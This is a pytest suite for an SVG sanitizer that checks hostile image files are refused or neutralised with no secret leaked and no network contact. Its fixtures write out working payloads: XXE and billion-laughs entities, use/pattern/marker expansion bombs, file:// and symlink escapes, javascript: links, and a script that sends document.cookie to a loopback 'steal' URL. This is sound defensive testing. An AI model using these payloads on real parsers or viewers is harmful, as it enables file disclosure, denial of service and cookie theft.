"""Hostile SVG files dropped into a figure: refused or neutralised, quickly, with nothing from outside.

Each case writes one hostile file as ``assets/hostile.svg`` of a copy of the
built demo project, points the ``logo`` panel at it and builds through the CLI
in process. A refused file gives one error line naming the layout key, the
file and what was refused (the href), and leaves build/ byte-identical; a
neutralised file builds, without the active or outside content. Secrets live
outside the project (a text file and a PNG); no output may contain them. A
loopback TCP server stands in for "the network": no case may connect to it.
The sanitize stage must decide each file within 2 s.
"""

from __future__ import annotations

import base64
import re
import shutil
import socket
import time
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pytest
from lxml import etree

from composer.cli.main import main
from composer.errors import SvgError
from composer.svg.sanitize import MAX_EXPANDED_ELEMENTS, load_svg
from conftest import DEMO, SVG_NS, read_png

SECRET = "TOP-SECRET-7f3a9c"
HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 40 20">'
OUTPUTS = ("demo.svg", "demo.pdf", "demo.png")
PREFIX = "compose: error: layouts/demo.toml:22:1: panels.logo.svg: '../assets/hostile.svg' is not usable: "


@dataclass(frozen=True)
class Hostile:
    id: str
    svg: str | bytes  # "{secret}", "{secret_png}", "{outside}" (relative), "{port}" are filled in
    expect: tuple[str, ...]


def _use_bomb(levels: int = 10, fan: int = 10) -> str:
    defs = ['<g id="l0"><rect width="1" height="1"/></g>']
    for level in range(1, levels):
        uses = "".join(f'<use xlink:href="#l{level - 1}"/>' for _ in range(fan))
        defs.append(f'<g id="l{level}">{uses}</g>')
    return f'{HEAD}<defs>{"".join(defs)}</defs><use xlink:href="#l{levels - 1}"/></svg>'


def _pattern_bomb(levels: int = 8, fan: int = 10) -> str:
    defs = ['<pattern id="p0" width="1" height="1"><rect width="1" height="1" fill="red"/></pattern>']
    for level in range(1, levels):
        rects = "".join(f'<rect width="1" height="1" fill="url(#p{level - 1})"/>' for _ in range(fan))
        defs.append(f'<pattern id="p{level}" width="1" height="1">{rects}</pattern>')
    return f'{HEAD}<defs>{"".join(defs)}</defs><rect width="40" height="20" fill="url(#p{levels - 1})"/></svg>'


def _billion_laughs() -> str:
    entities = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)]
    return (f'<?xml version="1.0"?>\n<!DOCTYPE svg [\n{chr(10).join(entities)}\n]>\n'
            f'{HEAD}<text y="10">&lol9;</text></svg>')


NESTED_OUTSIDE = base64.b64encode(
    f'{HEAD}<image href="file://{{secret_png}}" width="10" height="10"/></svg>'.encode()).decode()

REFUSED = [
    Hostile("billion_laughs", _billion_laughs(), ("declares XML entities",)),
    Hostile("billion_laughs_utf16", _billion_laughs().replace('<?xml version="1.0"?>', "").encode("utf-16"),
            ("declares XML entities",)),
    Hostile("external_entity_file", f'<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file://{{secret}}">]>'
            f'{HEAD}<text y="10">&xxe;</text></svg>', ("declares XML entities",)),
    Hostile("external_entity_relative", f'<!DOCTYPE svg [<!ENTITY xxe SYSTEM "{{outside}}/secret.txt">]>'
            f'{HEAD}<text y="10">&xxe;</text></svg>', ("declares XML entities",)),
    Hostile("parameter_entity", f'<!DOCTYPE svg [<!ENTITY % dtd SYSTEM "http://127.0.0.1:{{port}}/x.dtd"> %dtd;]>'
            f'{HEAD}</svg>', ("declares XML entities",)),
    Hostile("external_dtd", f'<!DOCTYPE svg SYSTEM "http://127.0.0.1:{{port}}/evil.dtd">'
            f'{HEAD}<text y="10">&xxe;</text></svg>', ("uses the entity &xxe; that it does not define",)),
    Hostile("use_bomb", _use_bomb(), (f"expands to more than {MAX_EXPANDED_ELEMENTS:,} units of drawing work",
                                      "use bomb")),
    Hostile("pattern_bomb", _pattern_bomb(), (f"expands to more than {MAX_EXPANDED_ELEMENTS:,} units of drawing work",)),
    # 50,000 markers of 100 rects: 5 million rects (the first 5,000 markers took 3.3 s of CPU to export: not
    # hostile; benchmarks/use_budget.py)
    Hostile("marker_bomb", f'{HEAD}<defs><marker id="m"><g id="g">' + '<rect width="1" height="1"/>' * 100
            + '</g></marker></defs><path marker-mid="url(#m)" d="M0 0' + " L1 1" * 50000 + '"/></svg>',
            ("expands to more than",)),
    Hostile("image_file_url", f'{HEAD}<image xlink:href="file://{{secret_png}}" width="40" height="20"/></svg>',
            ("<image xlink:href> refers to 'file://", "secret.png'", "file: links are never followed")),
    Hostile("image_outside_relative", f'{HEAD}<image href="{{outside}}/secret.png" width="40" height="20"/></svg>',
            ("<image href> refers to '../../", "secret.png'", "is outside the project")),
    Hostile("image_outside_absolute", f'{HEAD}<image href="{{secret_png}}" width="40" height="20"/></svg>',
            ("secret.png", "is outside the project")),
    Hostile("image_symlink_outside", f'{HEAD}<image href="innocent.png" width="40" height="20"/></svg>',
            ("'innocent.png'", "is outside the project")),
    Hostile("image_ftp", f'{HEAD}<image href="ftp://127.0.0.1:{{port}}/x.png" width="40" height="20"/></svg>',
            ("<image href> refers to 'ftp://127.0.0.1:", "ftp: links are never followed")),
    Hostile("use_http", f'{HEAD}<use xlink:href="http://127.0.0.1:{{port}}/s.svg#icon"/></svg>',
            ("<use xlink:href> refers to 'http://127.0.0.1:",)),
    Hostile("use_javascript", f'{HEAD}<use href="javascript:alert(1)"/></svg>', ("'javascript:alert(1)'",)),
    Hostile("feimage_file", f'{HEAD}<filter id="f"><feImage href="file://{{secret_png}}"/></filter>'
            '<rect width="4" height="4" filter="url(#f)"/></svg>', ("<feImage href> refers to 'file://",)),
    Hostile("fill_url_http", f'{HEAD}<rect width="4" height="4" fill="url(http://127.0.0.1:{{port}}/g.svg#g)"/></svg>',
            ("<rect fill> refers to 'http://127.0.0.1:",)),
    Hostile("style_attr_file", f'{HEAD}<rect width="4" height="4" style="fill: url(\'file://{{secret}}\')"/></svg>',
            ("<rect style> refers to 'file://",)),
    Hostile("css_import", f'{HEAD}<style>@import url(http://127.0.0.1:{{port}}/x.css); rect {{{{fill: red}}}}</style>'
            '</svg>', ("<style> refers to", "http://127.0.0.1:")),
    Hostile("css_escaped_url", f'{HEAD}<style>rect {{{{ fill: \\75 rl(http://127.0.0.1:{{port}}/p#x) }}}}</style>'
            '<rect width="4" height="4"/></svg>', ("<style> refers to 'http://127.0.0.1:",)),
    Hostile("data_uri_html", f'{HEAD}<image href="data:text/html;base64,PHNjcmlwdD4=" width="4" height="4"/></svg>',
            ("'data:text/html;base64,PHNjcmlwdD4='", "a data: URI of type text/html")),
    Hostile("nested_svg_image_reads_outside", f'{HEAD}<image href="data:image/svg+xml;base64,{NESTED_OUTSIDE}" '
            'width="4" height="4"/></svg>', ("(data: image)", "refers to 'file://", "never followed")),
]


# ------------------------------------------------------------------ fixtures


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> Path:
    base = tmp_path_factory.mktemp("hostile")
    root = base / "demo"
    shutil.copytree(DEMO, root)
    assert main(["demo", "--root", str(root), "--dpi", "50"]) == 0
    return root


@pytest.fixture(scope="module")
def network():
    """A loopback TCP server counting connections: the stand-in for every URL in the hostile files.

    No thread serves it (a thread in the test process would make every worker fork a fork from a
    multi-threaded process): the kernel completes each connection into the listen backlog, and
    ``accepted()`` takes them from there, returning the peer address of every connection made so far."""
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(128)
    server.setblocking(False)
    seen: list[tuple] = []

    def accepted() -> list[tuple]:
        while True:
            try:
                conn, addr = server.accept()
            except BlockingIOError:
                return list(seen)
            seen.append(addr)
            conn.close()

    probe = socket.create_connection(server.getsockname(), timeout=5)  # the counter counts a connection
    probe.close()
    assert len(accepted()) == 1, "the loopback server did not see a connection made to it"
    seen.clear()
    yield server.getsockname()[1], accepted
    server.close()


@pytest.fixture
def project(built, tmp_path) -> dict:
    """A copy of the built project inside tmp_path/work, secrets in tmp_path/outside."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text(SECRET)
    (outside / "secret.png").write_bytes(secret_png())
    root = tmp_path / "work" / "demo"
    shutil.copytree(built, root)
    (root / "assets" / "innocent.png").symlink_to(outside / "secret.png")
    return {"root": root, "outside": outside}


def fill(template: str | bytes, project: dict, port: int) -> bytes:
    if isinstance(template, bytes):
        return template
    outside = project["outside"]
    text = template.format(secret=outside / "secret.txt", secret_png=outside / "secret.png",
                           outside="../../../outside", port=port)
    return text.encode("utf-8")


def use_hostile(root: Path, data: bytes) -> None:
    (root / "assets" / "hostile.svg").write_bytes(data)
    layout = root / "layouts" / "demo.toml"
    layout.write_text(layout.read_text().replace('"../assets/logo.svg"', '"../assets/hostile.svg"'))


def snapshot(root: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted((root / "build").iterdir()) if p.is_file()}


def secret_png() -> bytes:
    """A 7 x 13 magenta PNG carrying the secret in a text chunk."""
    import io

    from PIL import Image
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("secret", SECRET)
    buf = io.BytesIO()
    Image.new("RGB", (7, 13), (255, 0, 255)).save(buf, format="PNG", pnginfo=info)
    return buf.getvalue()


def no_secret_in(outputs: dict[str, bytes]) -> None:
    png_b64 = base64.b64encode(secret_png())
    for name, data in outputs.items():
        assert SECRET.encode() not in data, name
        assert png_b64[8:60] not in data, name  # the PNG, inlined


# ------------------------------------------------------------------ tests


@pytest.mark.parametrize("case", REFUSED, ids=[c.id for c in REFUSED])
def test_hostile_svg_is_refused(case: Hostile, project, network, capsys):
    port, accepted = network
    root = project["root"]
    data = fill(case.svg, project, port)
    use_hostile(root, data)
    before = snapshot(root)

    started = time.monotonic()
    with pytest.raises(SvgError):
        load_svg(root / "assets" / "hostile.svg", project_root=root, source="assets/hostile.svg")
    assert time.monotonic() - started < 2.0

    capsys.readouterr()
    assert main(["demo", "--root", str(root), "--dpi", "50"]) == 1
    out, err = capsys.readouterr()
    assert out == "" and "Traceback" not in err
    lines = err.splitlines()
    assert len(lines) == 1 and lines[0].startswith(PREFIX), err
    for part in case.expect:
        assert part in lines[0], (part, lines[0])
    assert SECRET not in err
    assert snapshot(root) == before
    no_secret_in(snapshot(root))
    assert accepted() == []


@pytest.mark.parametrize("link", ["http://127.0.0.1:{port}/x.png", "https://127.0.0.1:{port}/x.png",
                                  "//127.0.0.1:{port}/x.png"])
def test_a_picture_by_web_address_is_not_fetched_and_the_rest_is_drawn(link, project, network):
    """An <image> by a web address is drawn as nothing, as a browser shows the SVG as an image (it loads no
    external resource): no connection is made, the rest of the file is kept, and the file's root carries
    the note the import warns once (composer.svg.sanitize.noted)."""
    from composer.svg.sanitize import noted

    port, accepted = network
    root = project["root"]
    href = link.format(port=port)
    use_hostile(root, f'{HEAD}<rect id="kept" width="4" height="4"/><image href="{href}" width="40" '
                'height="20"/></svg>'.encode())
    clean = etree.fromstring(load_svg(root / "assets" / "hostile.svg", project_root=root, source="h.svg"))
    image = clean.find("svg:image", SVG_NS)
    assert image is not None and "href" not in image.attrib and clean.find("svg:rect[@id='kept']", SVG_NS) is not None
    [(feature, detail, message)] = noted(clean, source="h.svg")
    assert feature == "pictures linked by a web address" and href in detail and href in message
    assert message.startswith("h.svg: 1 image (") and "download it into the project" in message
    assert accepted() == []


NEUTRALISED = f'''<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     xmlns:xi="http://www.w3.org/2001/XInclude" xmlns:h="http://www.w3.org/1999/xhtml"
     viewBox="0 0 40 20" onload="alert('svg')">
  <metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">{SECRET}</rdf:RDF></metadata>
  <script type="text/javascript">fetch("http://127.0.0.1:{{port}}/steal?" + document.cookie)</script>
  <h:script>alert("xhtml")</h:script>
  <xi:include href="file://{{secret}}" parse="text"/>
  <rect id="box" x="1" y="1" width="38" height="18" fill="#22c55e" onclick="alert('click')" onmouseover="x()"/>
  <a xlink:href="javascript:alert('link')"><circle id="dot" cx="20" cy="10" r="4" fill="#ef4444"/></a>
  <foreignObject width="40" height="20"><h:iframe src="http://127.0.0.1:{{port}}/frame"/></foreignObject>
  <set attributeName="fill" to="black" begin="0s"/>
  <animate xlink:href="#dot" attributeName="r" to="100" dur="1s"/>
  <text x="2" y="19" font-size="3">kept<tspan onclick="y()"> too</tspan></text>
</svg>
'''


def test_active_content_is_neutralised(project, network, capsys):
    port, accepted = network
    root = project["root"]
    use_hostile(root, fill(NEUTRALISED, project, port))
    started = time.monotonic()
    clean = load_svg(root / "assets" / "hostile.svg", project_root=root, source="assets/hostile.svg")
    assert time.monotonic() - started < 2.0
    assert main(["demo", "--root", str(root), "--dpi", "50"]) == 0, capsys.readouterr().err
    outputs = snapshot(root)
    # composer's own provenance record is the one <metadata> the figure may hold (nothing of the file's)
    svg = re.sub(rb'<metadata id="provenance"><composer:provenance [^>]*>[^<]*</composer:provenance></metadata>',
                 b"", outputs["demo.svg"])
    for bad in (b"script", b"onload", b"onclick", b"onmouseover", b"foreignObject", b"javascript:", b"iframe",
                b"XInclude", b"xi:include", b"<set", b"<animate", b"rdf", b"metadata", b"127.0.0.1"):
        assert bad not in svg, bad
        assert bad not in clean, bad
    no_secret_in(outputs)
    assert accepted() == []
    # the drawing itself survives: the box, the dot (out of its link), the text
    canvas = etree.fromstring(svg)
    group = canvas.find("svg:g[@id='panel-logo']", SVG_NS)
    assert group.find(".//svg:rect[@id]", SVG_NS) is not None
    assert group.find(".//svg:a/svg:circle[@id]", SVG_NS) is not None
    assert "".join(group.find(".//svg:text", SVG_NS).itertext()) == "kept too"
    png = read_png(root / "build" / "demo.png")
    mm = 50 / 25.4  # px per mm: the PNG is at 50 dpi
    # logo box: 20 x 10 mm at (5, 58) mm; the 40 x 20 viewBox fills it; dot at its centre, box green
    assert tuple(png[round((58 + 5) * mm), round((5 + 10) * mm), :3]) == (0xef, 0x44, 0x44)
    assert tuple(png[round((58 + 2) * mm), round((5 + 3) * mm), :3]) == (0x22, 0xc5, 0x5e)


def test_local_images_are_inlined(project, network):
    """<image> naming a PNG and an SVG inside the project becomes data: URIs; the nested SVG is sanitized."""
    port, accepted = network
    root = project["root"]
    (root / "assets" / "sub").mkdir()
    (root / "assets" / "sub" / "mark.svg").write_text(
        f'{HEAD}<script>alert(1)</script><rect width="40" height="20" fill="#0000ff" onload="x()"/></svg>')
    use_hostile(root, (f'{HEAD}<image href="photo.png" x="0" y="0" width="20" height="20" '
                       'preserveAspectRatio="none"/><image xlink:href="sub/mark.svg" x="20" y="0" width="20" '
                       'height="20" preserveAspectRatio="none"/></svg>').encode())
    clean = etree.fromstring(load_svg(root / "assets" / "hostile.svg", project_root=root, source="hostile.svg"))
    photo, mark = clean.findall("svg:image", SVG_NS)
    assert photo.get("href") == "data:image/png;base64," + base64.b64encode(
        (DEMO / "assets" / "photo.png").read_bytes()).decode()
    inner = base64.b64decode(mark.get("{http://www.w3.org/1999/xlink}href").split(",", 1)[1])
    assert mark.get("{http://www.w3.org/1999/xlink}href").startswith("data:image/svg+xml;base64,")
    assert b"script" not in inner and b"onload" not in inner and b'fill="#0000ff"' in inner
    assert main(["demo", "--root", str(root), "--dpi", "100"]) == 0
    png = read_png(root / "build" / "demo.png").astype(int)
    mm = 100 / 25.4
    # photo.png is red on its left half, blue on its right; the SVG image is all blue
    left = png[round((58 + 5) * mm), round((5 + 2) * mm), :3]
    right = png[round((58 + 5) * mm), round((5 + 15) * mm), :3]
    assert np.abs(left - (255, 0, 0)).max() < 40, left
    assert np.abs(right - (0, 0, 255)).max() < 40, right
    assert accepted() == []


def test_ordinary_svg_with_a_public_doctype_loads(tmp_path):
    """The DOCTYPE most SVG editors write names an external DTD: it is never loaded, and is harmless."""
    (tmp_path / "icon.svg").write_text(
        '<?xml version="1.0" standalone="no"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" '
        'viewBox="0 0 10 10"><sodipodi:namedview pagecolor="#fff"/><circle cx="5" cy="5" r="4"/></svg>')
    root = etree.fromstring(load_svg(tmp_path / "icon.svg", project_root=tmp_path, source="icon.svg"))
    assert [el.tag for el in root] == ["{http://www.w3.org/2000/svg}circle"]


def test_budget_counts_shared_references_once_per_use(tmp_path):
    """A matplotlib-like file: many <use> of one glyph is linear, not refused; one more level is."""
    glyph = '<path id="g" d="M0 0 L1 1"/>'
    uses = '<use xlink:href="#g"/>' * 20000
    (tmp_path / "ok.svg").write_text(f"{HEAD}<defs>{glyph}</defs>{uses}</svg>")
    # each <use> costs E + the glyph's E + 2 V (2 vertices): 18 units, 360,000 in all, well within the budget
    load_svg(tmp_path / "ok.svg", project_root=tmp_path, source="ok.svg")
    many = f'<g id="h">{uses}</g>'
    # 100 uses of those 360,000: 36 million units (2 million glyphs), more than the 25 million of one file
    (tmp_path / "bad.svg").write_text(f"{HEAD}<defs>{glyph}{many}</defs>" + '<use xlink:href="#h"/>' * 100 + "</svg>")
    with pytest.raises(SvgError, match="expands to more than"):
        load_svg(tmp_path / "bad.svg", project_root=tmp_path, source="bad.svg")


# ------------------------------------------------------------------ encodings


TEXT_SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 20"><text y="10">caf\u00e9 \u00b7 \u00b5</text></svg>'


@pytest.mark.parametrize("name, data", [
    ("utf8_declared", b'<?xml version="1.0" encoding="UTF-8"?>\n' + TEXT_SVG.encode("utf-8")),
    ("utf8_bom", b"\xef\xbb\xbf" + TEXT_SVG.encode("utf-8")),
    ("utf16_bom", ('<?xml version="1.0" encoding="UTF-16"?>\n' + TEXT_SVG).encode("utf-16")),
    ("latin1_declared", b'<?xml version="1.0" encoding="ISO-8859-1"?>\n' + TEXT_SVG.encode("latin-1")),
    ("cp1252_declared", b"<?xml version='1.0' encoding='windows-1252'?>\n" + TEXT_SVG.encode("cp1252")),
])
def test_svg_encodings_load(name, data, tmp_path):
    (tmp_path / "f.svg").write_bytes(data)
    root = etree.fromstring(load_svg(tmp_path / "f.svg", project_root=tmp_path, source="f.svg"))
    assert root.find("svg:text", SVG_NS).text == "caf\u00e9 \u00b7 \u00b5"


@pytest.mark.parametrize("name, data, expect", [
    ("latin1_undeclared", TEXT_SVG.encode("latin-1"),
     ("f.svg: is not valid UTF-8 at line 1, column", "declare its encoding", 'encoding="ISO-8859-1"')),
    ("latin1_declared_utf8", b'<?xml version="1.0" encoding="UTF-8"?>\n' + TEXT_SVG.encode("latin-1"),
     ("f.svg: has bytes that are not valid UTF-8 (the encoding it declares) at line 2",)),
    ("unknown_encoding", b'<?xml version="1.0" encoding="klingon-8"?>\n' + TEXT_SVG.encode(),
     ("f.svg: not well-formed XML", "klingon-8")),
    ("utf16_without_bom_or_declaration", TEXT_SVG.encode("utf-16-le"), ("f.svg: ",)),
])
def test_svg_encoding_errors_are_clear(name, data, expect, tmp_path):
    (tmp_path / "f.svg").write_bytes(data)
    with pytest.raises(SvgError) as info:
        load_svg(tmp_path / "f.svg", project_root=tmp_path, source="f.svg")
    line = str(info.value)
    assert "\n" not in line
    for part in expect:
        assert part in line, (part, line)


@pytest.mark.parametrize("engine", ["resvg", "cairosvg"])
def test_rasterizer_never_reads_files_or_urls(project, network, engine):
    """Even an SVG that skipped sanitizing: neither engine draws anything from a file or URL (cairosvg runs
    with unsafe=False; the resvg engine reads the SVG from an empty folder of its own)."""
    from composer.stages.export import export

    def to_png(svg, dpi):
        return export(svg, ["png"], dpi=dpi, engine=engine)["png"]

    def to_pdf(svg):
        return export(svg, ["pdf"], engine=engine)["pdf"]

    port, accepted = network
    secret = project["outside"] / "secret.png"  # magenta
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40pt" '
           f'height="20pt" viewBox="0 0 40 20"><rect width="40" height="20" fill="white"/>'
           f'<image xlink:href="file://{secret}" width="20" height="20"/>'
           f'<image xlink:href="{secret}" x="20" width="20" height="20"/>'
           f'<image xlink:href="http://127.0.0.1:{port}/x.png" width="40" height="20"/></svg>').encode()
    import io

    from composer.errors import SvgError

    if engine == "resvg":  # it refuses every link with one line (the composed SVG never has one: all inlined)
        for link in (f"file://{secret}", str(secret), f"http://127.0.0.1:{port}/x.png"):
            one = (f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
                   f'width="40pt" height="20pt"><image xlink:href="{link}" width="20" height="20"/></svg>')
            for convert in (lambda b: to_png(b, dpi=72), to_pdf):
                with pytest.raises(SvgError, match=r"^canvas: cannot export the (PNG|PDF): resvg: .*(image|file)") as err:
                    convert(one.encode())
                assert "\n" not in str(err.value) and SECRET not in str(err.value)
        assert accepted() == []
        return
    png = read_png(io.BytesIO(to_png(svg, dpi=72)))
    assert (png[..., :3] == 255).all()  # white: no magenta pixel from the secret image
    pdf = to_pdf(svg)
    assert SECRET.encode() not in pdf and b"/Subtype /Image" not in pdf
    assert accepted() == []
    source = "\n".join(p.read_text() for p in Path(__import__("composer").__file__).parent.rglob("*.py"))
    assert "unsafe=True" not in source
